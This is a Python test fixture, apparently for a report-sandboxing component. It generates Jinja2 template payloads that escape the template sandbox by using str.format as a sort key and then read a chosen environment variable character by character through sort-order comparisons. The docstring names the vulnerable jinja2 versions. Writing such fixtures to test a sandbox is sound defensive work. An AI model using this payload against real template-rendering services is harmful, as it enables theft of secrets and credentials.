"""Hostile comment templates, shared by the unit and end-to-end tests of report.sandbox."""

from __future__ import annotations

ALPHABET = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ_abcdefghijklmnopqrstuvwxyz"  # ascending, as sort compares


def sort_leak(variable: str, length: int, *, via_attr: bool = False) -> str:
    """Reads os.environ[variable] one character at a time through a str.format method used as a sort key.

    jinja2 < 3.1.5 hands the template the raw `format` method of a string (< 3.1.6 through `|attr`), and
    `list.sort(key=...)` calls it outside the sandbox. Sorting the `cycler` global (whose `__init__` reaches
    the `os` module) against a namespace that mimics that path with a known character tells, by the order,
    whether the secret's i-th character is at most that one; the template prints what it learns.
    """
    field = "'{0.__init__.__globals__[os].environ[" + variable + "][' ~ i ~ ']}'"
    method = f"({field})|attr('format')" if via_attr else f"({field}).format"
    return (
        "{%- set leak = namespace(text='') -%}\n"
        f"{{%- for i in range({length}) -%}}\n"
        f"  {{%- set key = {method} -%}}\n"
        "  {%- set found = namespace(char='') -%}\n"
        f"  {{%- for c in '{ALPHABET}' if not found.char -%}}\n"
        "    {%- set probe = namespace(__init__=namespace(__globals__={'os': namespace(environ={'"
        + variable + f"': c * {length}}})}})) -%}}\n"
        "    {%- set pair = [cycler, probe] -%}\n"
        "    {%- set _ = pair.sort(key=key) -%}\n"
        "    {%- if pair[0] is sameas cycler %}{% set found.char = c %}{% endif -%}\n"
        "  {%- endfor -%}\n"
        "  {%- set leak.text = leak.text ~ found.char -%}\n"
        "{%- endfor -%}\n"
        "leaked:{{ leak.text }}\n"
    )
